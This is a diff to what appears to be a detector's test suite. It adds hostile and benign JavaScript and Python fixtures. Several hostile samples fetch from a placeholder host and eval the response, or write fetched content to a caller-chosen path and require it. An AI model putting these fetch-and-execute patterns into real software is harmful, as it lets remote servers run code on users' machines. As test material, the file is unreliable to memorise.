@@ -20,6 +20,12 @@ _RUN = (
     "const fs = require('fs'), vm = require('vm');\n"
     "module.exports.run = (path) => vm.runInNewContext(fs.readFileSync(path, 'utf8'));\n"
 )
+_ASKED = "const asked = fetch('https://a.invalid').then(r => r.json());\n"
+_SERVES = {
+    "app.js": "const { serve } = require('./serve');\nconst path = process.argv[2];\nserve(path);\nrequire(path);\n",
+    "serve.js": "const made = require('fs');\nmodule.exports.serve = async (options) => {\n  const out = made.%s;\n"
+    "  out.end(await (await fetch('https://a.invalid')).text());\n};\n",
+}
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "decoded_code": {
@@ -67,6 +73,21 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("run.js", 2),
         ),
+        "an answer is written where the caller says": Sample(
+            {**_SERVES, "serve.js": _SERVES["serve.js"] % "createWriteStream(options)"}, "block", ("app.js", 4)
+        ),
+        "what a function makes of an answer": js(_ASKED + "asked.then(told => told.code).then(code => eval(code));\n"),
+        "the error of an answer, behind two functions that give nothing of it": js(
+            _ASKED + "asked.then(told => 1).finally(() => 2).catch(e => eval(e.message));\n"
+        ),
+        "the same, awaited": js(
+            _ASKED + "async function go() {\n  try { await asked.then(told => 1); } catch (e) { eval(e.message); }\n}\n"
+            "go();\n",
+            line=3,
+        ),
+        "the same, by the second function": js(
+            _ASKED + "asked.then(told => 1).then(one => 2, e => eval(e.message));\n"
+        ),
         "a function that is named after another": py(
             _NAMED + "named(print)(requests.get('https://a.invalid').text)\n", line=5
         ),
@@ -101,6 +122,19 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.js": "const { run } = require('./run');\n"
             "fetch('https://a.invalid').then(r => r.json()).then(told => run(`parts/${told.name}.js`));\n",
             "run.js": _RUN,
+        },
+        "an answer is given on by what is made of what the caller says": {
+            **_SERVES,
+            "serve.js": _SERVES["serve.js"] % "encode('a', options)",
+        },
+        "whether an answer is something": {
+            "app.js": _ASKED + "asked.then(told => told.version === '1').then(same => eval(`run(${same})`));\n"
+        },
+        "whether an answer is something, in Python": {
+            "app.py": "import requests\nsame = requests.get('https://a.invalid').text == '1'\neval(f'run({same})')\n"
+        },
+        "one of two words, as an answer is": {
+            "app.js": _ASKED + "asked.then(told => (told.ok ? 'a()' : 'b()')).then(eval);\n"
         },
         "a function that is named after what a server said": {
             "app.py": _NAMED + "named(requests.get('https://a.invalid'))('1+1')\n"
